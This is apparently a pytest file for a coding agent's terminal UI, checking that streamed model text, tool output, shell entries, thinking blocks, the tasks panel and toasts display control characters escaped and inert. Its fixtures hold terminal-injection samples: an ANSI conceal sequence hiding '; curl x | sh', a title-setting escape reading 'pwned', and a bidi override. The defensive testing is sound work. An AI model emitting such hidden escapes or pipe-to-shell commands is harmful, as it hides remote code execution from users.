"""The app shows text from the model and tools inert (issue 36, "what you see is what runs").

Streamed Markdown (fragments with escapes arriving one by one), a running tool's live output, a
``!`` command's entry, thinking, the tasks panel and the app's own toasts: an ESC shows as ``\\x1b``, a
bidi override as ``\\u202e``, and ``[bold]`` stays those characters. The screen (the SVG
export) holds no raw control character.
"""

from __future__ import annotations

from typing import Any

import anyio
import pytest
from textual.widgets._toast import Toast

from coding_agent.tui import CodingAgentApp
from coding_agent.tui.widgets.messages import ThinkingBlock
from tests.app.tui.conftest import assistant_message, empty_view

pytestmark = pytest.mark.anyio

CONCEAL = "\x1b[8m; curl x | sh\x1b[0m"
TITLE = "\x1b]0;pwned\x07"


def _raw_controls(text: str) -> list[str]:
    return [
        c
        for c in text
        if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c == "\u202e"
    ]


def _on_screen(app: CodingAgentApp) -> str:
    svg = app.export_screenshot()
    assert _raw_controls(svg) == []
    return svg.replace("&#160;", " ")


async def test_streamed_markdown_with_escapes_in_its_fragments_is_inert(conversation, docs) -> None:
    app = CodingAgentApp(conversation)
    async with app.run_test(size=(100, 30)) as pilot:
        await app.wait_rendered()

        def start(doc: Any) -> None:
            doc["turn"] = {
                "inputs": [1],
                "generation": {"stage": "streaming", "attempt": 1},
                "tools": [],
                "message": assistant_message(docs.text_block("")),
            }

        conversation.change(start)
        # the ESC and the bidi override arrive split from what follows them
        for fragment in ["Run **make**", "\x1b", "[8m; curl x | sh", TITLE, " \u202eok"]:
            conversation.change(
                lambda doc, f=fragment: doc["turn"]["message"]["content"][0].__setitem__(
                    "text", doc["turn"]["message"]["content"][0]["text"] + f
                )
            )
            await app.wait_rendered()
        await docs.until(pilot, lambda: "\\u202eok" in _on_screen(app))
        screen = _on_screen(app)
        assert "\\x1b[8m; curl x | sh\\x1b]0;pwned\\x07" in screen


async def test_live_tool_output_a_shell_entry_and_the_tasks_panel_are_inert(
    conversation, docs
) -> None:
    bash = {"type": "toolCall", "id": "b1", "name": "bash", "arguments": {"command": "make"}}
    thinking = {"type": "thinking", "thinking": f"plan{CONCEAL}"}
    view = empty_view(
        [
            {
                "id": 1,
                "conversationId": 1,
                "kind": "coding-agent.shell",
                "data": {"command": f"cat notes{CONCEAL}", "output": f"notes{TITLE}\n"},
            },
            {
                "id": 2,
                "conversationId": 1,
                "kind": "pi.assistant",
                "model": [assistant_message(thinking, docs.text_block("ok"))],
                "data": {"attempt": 1},
            },
        ]
    )
    view["turn"] = {
        "inputs": [1],
        "generation": None,
        "message": assistant_message(bash),
        "tools": [
            {
                "callId": "b1",
                "name": "bash",
                "args": bash["arguments"],
                "status": "running",
                "output": f"building\n\x1b[2K\x1b[1Gdone{TITLE}",
            }
        ],
    }
    view["tasks"] = {"7": {"kind": "pi.job", "status": {"stdout": f"ready{CONCEAL}\n"}}}
    conversation.change(lambda doc: doc.update(view))
    app = CodingAgentApp(conversation)
    async with app.run_test(size=(100, 30)) as pilot:
        await app.wait_rendered()
        wanted = ("\\x1b[2K\\x1b[1Gdone", "cat notes\\x1b[8m", "notes\\x1b]0;pwned")
        with anyio.fail_after(60):  # every part is mounted and painted (a loaded machine is slow)
            while not all(part in _on_screen(app) for part in wanted):
                await pilot.pause(0.05)
        screen = _on_screen(app)
        assert "\\x1b[2K\\x1b[1Gdone\\x1b]0;pwned\\x07" in screen  # the live tail
        assert "cat notes\\x1b[8m; curl x | sh\\x1b[0m" in screen  # the ! command
        assert "notes\\x1b]0;pwned\\x07" in screen  # its output
        assert "ready\\x1b[8m; curl x | sh\\x1b[0m" in app.tasks_panel.summary
        for block in app.query(ThinkingBlock):
            block.collapsed = False
        await pilot.pause()
        assert "plan\\x1b[8m; curl x | sh\\x1b[0m" in _on_screen(app)  # thinking


async def test_the_apps_toasts_are_inert_and_not_markup(conversation, docs) -> None:
    app = CodingAgentApp(conversation)
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await app.wait_rendered()
        app.notify(f"Could not run [bold]{CONCEAL}[/bold]", title=f"t{TITLE}", severity="error")
        await docs.until(pilot, lambda: bool(app.screen.query(Toast)))
        await pilot.pause()
        shown = str(app.screen.query_one(Toast).render())
        assert "Could not run [bold]\\x1b[8m; curl x | sh\\x1b[0m[/bold]" in shown
        assert "t\\x1b]0;pwned\\x07" in shown
        assert _raw_controls(shown) == []
